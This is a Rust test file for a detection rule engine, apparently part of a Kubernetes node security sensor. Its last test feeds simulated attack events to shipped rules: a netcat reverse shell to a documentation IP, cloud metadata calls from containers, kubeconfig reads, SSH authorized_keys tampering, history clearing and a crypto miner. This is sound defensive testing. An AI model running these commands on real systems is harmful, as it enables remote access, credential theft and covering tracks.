//! Rules meet whole observations.

use super::{testing::Scene, *};

const TOOL: &str = "title: tool\nid: tool\nname: tool\nlogsource:\n  category: process_creation\ndetection:\n  a:\n    Image|endswith: /tool\n  condition: a\n";

#[test]
fn a_match_says_why() {
    let mut rules = load(&[TOOL]).unwrap();
    let scene = Scene::exec("/opt/tool", &["tool", "x"]);
    let detections = rules.detect(&scene.observation());
    assert_eq!(
        detections[0].matched,
        [Matched {
            selection: "a".into(),
            field: Some("Image".into()),
            value: Some("/opt/tool".into()),
        }]
    );
    assert!(titles(&mut rules, &Scene::exec("/opt/other", &["tool"])).is_empty());
}

#[test]
fn categories_keep_rules_apart() {
    let changed = "title: changed\nid: c\nlogsource:\n  category: file_event\ndetection:\n  a:\n    TargetFilename: /etc/x\n  condition: a\n";
    let read = changed
        .replace("changed", "opened")
        .replace("id: c", "id: r")
        .replace("file_event", "file_access");
    let mut rules = load(&[changed, &read]).unwrap();
    let check = |rules: &mut RuleSet, flags, expected: &[&str]| {
        assert_eq!(
            titles(rules, &Scene::open("/bin/cat", "/etc/x", flags)),
            expected,
            "{flags:o}"
        );
    };
    check(&mut rules, libc::O_RDONLY, &["opened"]);
    check(
        &mut rules,
        libc::O_WRONLY | libc::O_APPEND,
        &["opened", "changed"],
    );
    check(
        &mut rules,
        libc::O_RDONLY | libc::O_TRUNC,
        &["opened", "changed"],
    );
    assert!(titles(&mut rules, &Scene::exec("/etc/x", &["x"])).is_empty());
}

#[test]
fn filters_except() {
    let filter = "title: not here\nlogsource:\n  category: process_creation\nfilter:\n  rules: [tool]\n  here:\n    Container.Id: c0ffee\n  condition: not here\n";
    let mut rules = load(&[TOOL, filter]).unwrap();
    assert_eq!(
        titles(&mut rules, &Scene::exec("/opt/tool", &["tool"])),
        ["tool"]
    );
    assert!(titles(&mut rules, &Scene::exec("/opt/tool", &["tool"]).contained()).is_empty());
}

const BURST: &str = "title: burst\nid: burst\ncorrelation:\n  type: event_count\n  rules: [tool]\n  group-by: [User]\n  timespan: 10s\n  condition:\n    gte: 3\nlevel: high\n";

#[test]
fn correlations_count_and_hide_what_they_count() {
    let mut rules = load(&[TOOL, BURST]).unwrap();
    let mut at = |seconds| titles(&mut rules, &Scene::exec("/opt/tool", &["tool"]).at(seconds));
    assert!(at(1).is_empty());
    assert!(at(20).is_empty());
    assert!(at(21).is_empty());
    assert_eq!(at(22), ["burst"]);
}

#[test]
fn a_new_rule_set_inherits_what_correlations_counted() {
    let mut old = load(&[TOOL, BURST]).unwrap();
    let scene = |seconds| Scene::exec("/opt/tool", &["tool"]).at(seconds);
    assert!(titles(&mut old, &scene(1)).is_empty());
    assert!(titles(&mut old, &scene(2)).is_empty());
    let mut new = load(&[TOOL, BURST]).unwrap();
    new.inherit(&old);
    assert_eq!(titles(&mut new, &scene(3)), ["burst"]);
}

#[test]
fn a_correlation_says_why() {
    let mut rules = load(&[TOOL, BURST]).unwrap();
    let mut last = Vec::new();
    for seconds in 1..=3 {
        last = rules.detect(
            &Scene::exec("/opt/tool", &["tool"])
                .at(seconds)
                .observation(),
        );
    }
    assert_eq!(last[0].matched[0].value.as_deref(), Some("3 within 10 s"));
    assert_eq!(last[0].matched[1].field.as_deref(), Some("User"));
}

#[test]
fn explanations_show_the_tree() {
    let rules = load(&[TOOL, BURST]).unwrap();
    let scene = Scene::exec("/opt/other", &["other"]);
    let text = rules.explain(&scene.observation(), "tool").unwrap();
    assert!(
        text.starts_with("tool: does not match\n") && text.contains("/opt/other"),
        "{text}"
    );
    let open = Scene::open("/bin/cat", "/etc/x", 0);
    assert!(
        rules
            .explain(&open.observation(), "tool")
            .unwrap()
            .contains("process_creation")
    );
    assert!(
        rules
            .explain(&scene.observation(), "burst")
            .unwrap()
            .contains("correlation")
    );
    assert_eq!(rules.explain(&scene.observation(), "nobody"), None);
}

#[test]
fn hostile_text_is_only_text() {
    let mut rules = RuleSet::load(embedded()).unwrap_or_else(|_| panic!("shipped rules"));
    let long = "A".repeat(8000);
    let many = vec!["-e"; 10_000];
    for args in [vec![long.as_str()], vec!["\u{1b}[31m\n\u{0}"], many, vec![]] {
        let scene = Scene::exec("/tmp/\u{1b}[2J", &args);
        assert!(titles(&mut rules, &scene).is_empty());
    }
    let mut scene = Scene::exec("/tmp/x", &["x"]);
    let mut image = (*scene.process.image).clone();
    image.exec.args = vec![vec![0xff, 0xfe].into(), b"-e".as_slice().into()];
    scene.process.image = image.into();
    assert!(titles(&mut rules, &scene).is_empty());
}

#[test]
fn shipped_rules_on_whole_events() {
    let mut rules = RuleSet::load(embedded()).unwrap_or_else(|_| panic!("shipped rules"));
    let mut check = |scene: Scene, expected: &[&str]| {
        let detections = rules.detect(&scene.observation());
        let types: Vec<_> = detections
            .iter()
            .map(|it| it.rule.alert_type.trim_start_matches("K8S.NODE_"))
            .collect();
        assert_eq!(types, expected, "{:?}", scene.event.body);
    };
    let append = libc::O_WRONLY | libc::O_CREAT | libc::O_APPEND;
    check(
        Scene::exec(
            "/tmp/asc_alerttest_662jfi039n",
            &["./asc_alerttest_662jfi039n"],
        ),
        &["EICAR"],
    );
    check(
        Scene::exec("/usr/bin/nc", &["nc", "-e", "/bin/sh", "192.0.2.1", "4444"]),
        &["ReverseShell"],
    );
    check(
        Scene::connect("/usr/bin/bash", "127.0.0.1", 4444),
        &["ReverseShell"],
    );
    check(Scene::connect("/usr/bin/bash", "127.0.0.1", 8125), &[]);
    check(Scene::connect("/usr/bin/curl", "169.254.169.254", 80), &[]);
    check(
        Scene::connect("/usr/bin/curl", "169.254.169.254", 80).contained(),
        &["ImdsCall"],
    );
    check(
        Scene::open("/bin/cat", "/var/lib/kubelet/kubeconfig", 0),
        &["KubeConfigAccess"],
    );
    check(
        Scene::open("/bin/bash", "/root/.ssh/authorized_keys", append),
        &["SshKeyAccess"],
    );
    check(Scene::open("/bin/bash", "/root/.bash_history", append), &[]);
    check(
        Scene::open("/bin/bash", "/root/.bash_history", append | libc::O_TRUNC),
        &["HistoryFileCleared"],
    );
    check(
        Scene::exec("/tmp/xmrig", &["./xmrig"]),
        &["DigitalCurrencyMining"],
    );
    check(Scene::exec("/usr/bin/ls", &["ls", "-l"]), &[]);
}
